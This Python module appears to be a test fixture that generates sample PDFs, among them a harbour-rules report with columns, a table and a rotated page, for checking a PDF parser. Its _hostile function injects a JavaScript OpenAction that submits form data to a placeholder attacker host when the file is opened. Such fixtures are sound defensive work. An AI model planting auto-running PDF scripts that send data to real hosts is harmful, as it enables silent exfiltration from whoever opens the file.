"""PDFs whose words stand at known places: two columns, a turned page, a table, a scan, harm."""

from __future__ import annotations

from pathlib import Path

from reportlab.pdfgen.canvas import Canvas

LEFT = [
    "Every berth of the harbour has a number, and", "every boat that stays for longer than one",
    "night is written into the book of the office.", "The book lies open on the desk beside the",
    "door, where all who wait can read in it. Boats",
    "that come after dark are written down in the",
    "morning. Fees are paid before noon, and who", "does not pay is asked once more by letter.",
    "Ropes are the concern of the boat, not of the", "harbour, and no rope may cross the path. The",
    "crane is free of charge for members of the", "guild, and costs six crowns for all others. The",
    "lamp at the head of the mole burns from dusk",
    "until dawn in each month of the year. The har-",
    "bour master flies the red flag before a storm,", "and the",
]  # fmt: skip
RIGHT = [
    "blue flag in calm water. Boats wait behind", "the mole until noon, and leave it in the order",
    "in which they came. Nobody anchors between", "the buoys. Nets are dried on the racks of the",
    "eastern quay alone, since the western one is", "needed for the ferry. Fish is sold from the",
    "boats until ten, later only in the hall. What", "is left is taken away by the cart at eleven.",
    "Dogs are kept on board. Children may swim", "from the steps while the flag is blue, and in",
    "company of one who can swim himself. Ice is", "to be had from the house behind the hall at",
    "two crowns a block. Water comes from the tap", "beside it and costs nothing. Fires are lit in",
    "the hut and nowhere else. Complaints are put", "into the box at the gate.",
]  # fmt: skip
OVER = ("The pilot boards every ship that is longer", "than ninety metres before the outer buoy.")
TURNED = "Barges carry gravel to the upper quay on Mondays."

FOOT = "The lamp of berth twenty is lit at dusk."


def write_pdfs(folder: Path) -> None:
    """A report of five pages, and a file that means harm."""
    folder.mkdir(parents=True, exist_ok=True)
    _report(folder / "harbour.pdf")
    _hostile(folder / "hostile.pdf")


def _report(file: Path) -> None:
    canvas = Canvas(str(file), pagesize=(600, 800))
    canvas.setTitle("Harbour rules")
    canvas.bookmarkPage("flags")
    canvas.addOutlineEntry("Flags", "flags", 0)
    for column, lines in ((50, LEFT), (330, RIGHT)):
        for number, line in enumerate(lines):
            canvas.drawString(column, 700 - 16 * number, line)
    canvas.linkURL("http://evil.example/a", (330, 300, 530, 330))
    canvas.drawString(330, 310, "A link to elsewhere")
    canvas.drawString(330, 60, OVER[0])
    canvas.showPage()
    canvas.bookmarkPage("pilots")
    canvas.addOutlineEntry("Pilots", "pilots", 0)
    canvas.drawString(50, 740, OVER[1])
    for column, (name, values) in enumerate(
        {"Berth": ("North", "South"), "Depth": ("41 m", "38 m"), "Fee": ("3 crowns", "9 crowns")}
        .items()
    ):  # fmt: skip
        for row, words in enumerate((name, *values)):
            canvas.rect(50 + 120 * column, 600 - 20 * row, 120, 20)
            canvas.drawString(55 + 120 * column, 605 - 20 * row, words)
    canvas.showPage()
    canvas.setPageRotation(90)
    canvas.drawString(50, 400, TURNED)
    canvas.showPage()
    for page in range(4, 40):
        canvas.drawString(50, 400, f"Notes of berth {page}, which say nothing more.")
        if page == 20:
            canvas.drawString(50, 30, FOOT)
        canvas.showPage()
    canvas.save()


def _hostile(file: Path) -> None:
    canvas = Canvas(str(file), pagesize=(600, 800))
    canvas.drawString(50, 700, "The zeppelin crew opens the hatch at Wexham.")
    canvas.save()
    script = b"app.alert(1); window.broken = 4; this.submitForm('http://evil.example/d');"
    action = (
        b"/OpenAction << /S /JavaScript /JS ("
        + script.replace(b"(", b"\\(").replace(b")", b"\\)")
        + b") >> "
    )
    content = file.read_bytes().replace(b"/Type /Catalog", action + b"/Type /Catalog")
    file.write_bytes(content)  # its table of offsets is wrong now, which readers repair
